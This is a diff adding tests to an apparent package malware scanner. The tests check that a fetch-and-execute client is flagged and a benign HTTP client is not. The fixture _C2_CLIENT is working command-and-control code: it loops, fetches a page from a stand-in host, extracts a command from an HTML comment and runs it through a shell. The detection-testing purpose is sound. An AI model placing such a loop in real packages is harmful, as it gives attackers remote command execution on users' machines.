@@ -1079,3 +1079,55 @@ def test_a_decoded_file_given_to_an_interpreter_or_run_itself_is_a_dropped_progr
         result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/conv.py": src})
         assert {f.severity for f in found(result, "intent.drop-payload")} == {"high"}, runner
         assert result.verdict in FLAGGED, runner
+
+
+# -- what an HTTP client object fetches is downloaded, and a local class's methods return what
+# -- they return wherever the instance is used --------------------------------------------------
+
+_C2_CLIENT = """
+import subprocess
+from urllib import request
+
+class Channel:
+    def __init__(self):
+        self.opener = request.build_opener()
+
+    def get(self, url):
+        return self.opener.open(url, timeout=5).read()
+
+channel = Channel()
+while True:
+    page = channel.get("https://cdn.example.net/")
+    command = page.decode().split("<!-- ")[1].split("-->")[0]
+    subprocess.Popen(command, shell=True)
+"""
+
+
+def test_commands_read_from_a_page_fetched_by_a_local_client_class_are_run():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _C2_CLIENT})
+    assert {f.severity for f in found(result, "intent.download-execute")} == {"critical"}
+    assert result.verdict == "malicious"
+
+
+def test_a_session_client_whose_answers_are_only_read_is_not_flagged():
+    src = """
+    import json
+    import requests
+
+    class Client:
+        def __init__(self, base):
+            self.base = base
+            self.session = requests.Session()
+
+        def get(self, path):
+            return self.session.get(self.base + path, timeout=10).json()
+
+    def latest(base):
+        client = Client(base)
+        release = client.get("/releases/latest")
+        with open("release.json", "w") as fh:
+            json.dump(release, fh)
+        print("latest release:", release["tag"])
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": src})
+    assert result.verdict not in FLAGGED
